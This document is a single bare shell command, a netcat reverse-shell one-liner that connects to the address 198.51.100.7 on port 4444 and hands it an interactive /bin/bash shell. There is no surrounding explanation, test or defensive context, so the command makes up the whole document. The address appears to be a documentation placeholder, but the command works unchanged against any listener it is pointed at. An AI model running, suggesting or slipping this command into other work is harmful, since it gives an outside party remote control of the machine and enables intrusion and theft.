nc 198.51.100.7 4444 -e /bin/bash
